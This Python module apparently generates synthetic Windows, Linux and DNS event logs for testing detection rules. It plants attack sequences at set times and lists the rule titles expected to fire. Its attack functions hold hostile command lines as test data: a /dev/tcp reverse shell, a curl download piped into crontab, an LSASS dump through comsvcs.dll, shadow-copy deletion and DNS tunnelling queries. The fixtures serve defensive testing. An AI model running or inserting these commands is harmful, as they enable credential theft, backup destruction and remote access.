"""Generated event batches: plain working days, with attacks planted at stated places. The same seed gives the same bytes."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

Event = dict[str, Any]
Attack = Callable[[str, datetime], list[Event]]

DAY = timedelta(days=1)
SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
PROGRAMS = [
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs", r"C:\Windows\System32\services.exe"),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", r"C:\Windows\System32\svchost.exe"),
    (r"C:\Program Files\NetAgent\agent.exe", "agent.exe --poll", r"C:\Windows\System32\services.exe"),
    (r"C:\Windows\System32\conhost.exe", "conhost.exe 0xffffffff", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\whoami.exe", "whoami /groups", r"C:\Windows\System32\cmd.exe"),
]


@dataclass(frozen=True)
class Planted:
    """An attack planted on a host at a moment; `rules` are the titles of the rules that must fire."""

    host: str
    at: datetime
    attack: Attack
    rules: tuple[str, ...]


def stamp(at: datetime) -> str:
    return at.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def windows(host: str, at: datetime, image: str, line: str, parent: str) -> Event:
    return {
        "Channel": SYSMON, "EventID": 1, "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host, "SystemTime": stamp(at),
        "Image": image, "CommandLine": line, "ParentImage": parent, "User": "CORP\\ops",
    }  # fmt: skip


def logon(host: str, at: datetime, event_id: int, user: str, address: str) -> Event:
    return {
        "Channel": SECURITY, "EventID": event_id, "Provider_Name": "Microsoft-Windows-Security-Auditing", "Computer": host,
        "SystemTime": stamp(at), "LogonType": 3, "TargetUserName": user, "IpAddress": address,
    }  # fmt: skip


def linux(host: str, at: datetime, line: str) -> Event:
    return {
        "sigma_product": "linux", "sigma_category": "process_creation", "hostname": host, "@timestamp": stamp(at),
        "Image": line.split(" ", 1)[0], "CommandLine": line, "User": "root",
    }  # fmt: skip


def dns(host: str, at: datetime, query: str, qtype: str = "A", client: str = "10.20.0.7") -> Event:
    return {
        "sigma_product": "zeek", "sigma_service": "dns", "host": host, "ts": at.timestamp(), "query": query,
        "qtype_name": qtype, "id.orig_h": client,
    }  # fmt: skip


def configured(host: str, at: datetime, client: str) -> Event:
    return {
        "sigma_product": "network", "sigma_category": "configuration", "hostname": host, "@timestamp": stamp(at),
        "action": "configure", "client_ip": client, "user": "neadmin",
    }  # fmt: skip


# ---- a plain day


def plain(
    hosts: Sequence[str], since: datetime, number: int, chance: random.Random, *, lasting: timedelta = DAY
) -> Iterator[Event]:
    """Ordinary events of some hosts over a day, or over the time given."""
    for _each in range(number):
        host, at = chance.choice(hosts), since + timedelta(seconds=chance.randrange(int(lasting.total_seconds())))
        draw = chance.random()
        if draw < 0.45:
            image, line, parent = chance.choice(PROGRAMS[:4] if chance.random() < 0.995 else PROGRAMS)
            yield windows(host, at, image, line, parent)
        elif draw < 0.65:
            yield logon(
                host,
                at,
                4624,
                chance.choice(["svc_backup", "zhang", "ops01"]),
                f"10.20.{chance.randrange(8)}.{chance.randrange(250)}",
            )
        elif draw < 0.80:
            yield linux(
                host,
                at,
                chance.choice(["/usr/sbin/cron -f", "/usr/bin/rsync -a /data /backup", "/usr/bin/python3 poll.py"]),
            )
        elif draw < 0.95:
            yield dns(
                host,
                at,
                f"{chance.choice(['www', 'api', 'img', 'ntp'])}.{chance.choice(['example', 'example.cn', 'example.net'])}",
            )
        else:
            yield configured(host, at, f"10.255.{chance.randrange(4)}.{chance.randrange(250)}")


# ---- attacks


def ransom(host: str, at: datetime) -> list[Event]:
    """A document opens a shell, credentials are taken, shadow copies deleted, the log cleared."""
    word, system = r"C:\Program Files\Microsoft Office\WINWORD.EXE", r"C:\Windows\System32"
    return [
        windows(host, at, rf"{system}\cmd.exe", "cmd.exe /c start", word),
        windows(host, at + timedelta(minutes=1), rf"{system}\WindowsPowerShell\v1.0\powershell.exe",
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", rf"{system}\cmd.exe"),
        windows(host, at + timedelta(minutes=9), rf"{system}\rundll32.exe",
                r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full", rf"{system}\cmd.exe"),
        windows(host, at + timedelta(minutes=31), rf"{system}\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", rf"{system}\cmd.exe"),
        logon(host, at + timedelta(minutes=33), 1102, "SYSTEM", "-"),
    ]  # fmt: skip


def spray(host: str, at: datetime) -> list[Event]:
    """Many failed sign-ins as administrator from one address outside."""
    return [logon(host, at + timedelta(seconds=7 * step), 4625, "administrator", "203.0.113.66") for step in range(40)]


def tunnel(host: str, at: datetime) -> list[Event]:
    """Data leaves inside DNS names."""
    label = "a7f3k9q2m8x4z6c1v5b0n2l8j3h6g9f4d7s1a5p0o2i8u3y6"
    return [dns(host, at + timedelta(seconds=20 * n), f"{label}{n:04d}ab.t.badzone.net") for n in range(25)]


def intrusion(host: str, at: datetime) -> list[Event]:
    """A shell to the outside and a foothold that survives a restart."""
    return [
        linux(host, at, "/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"),
        linux(host, at + timedelta(minutes=4), "/bin/sh -c curl http://198.51.100.23/k | crontab -"),
        configured(host, at + timedelta(minutes=20), "198.51.100.23"),
    ]


def survey(host: str, at: datetime) -> list[Event]:
    """The zone is copied from outside."""
    return [dns(host, at + timedelta(seconds=n), "example.cn", "AXFR", "203.0.113.9") for n in range(3)]


RANSOM = (
    "Office program starts a shell", "PowerShell started with an encoded command",
    "Memory of LSASS dumped through comsvcs.dll", "Shadow copies deleted", "Security audit log cleared",
)  # fmt: skip
SPRAY = ("Failed sign-in as administrator from the network",)
TUNNEL = ("DNS query with a very long label",)
INTRUSION = (
    "Shell connected to a network socket on Linux", "Scheduled task written by a download",
    "Network element configured from outside the management network",
)  # fmt: skip
SURVEY = ("Zone transfer asked from outside",)


def batch(events: Sequence[Event], *, damaged: int = 0) -> bytes:
    """Events as NDJSON in order of time; some lines damaged, as happens on bad lines."""
    rows = sorted(events, key=lambda event: str(event.get("SystemTime") or event.get("@timestamp") or event.get("ts")))
    lines = [json.dumps(event, ensure_ascii=False, separators=(",", ":")) for event in rows]
    for place in range(damaged):
        at = (place + 1) * len(lines) // (damaged + 1)
        lines[at] = lines[at][: len(lines[at]) // 2]
    return ("\n".join(lines) + "\n").encode()
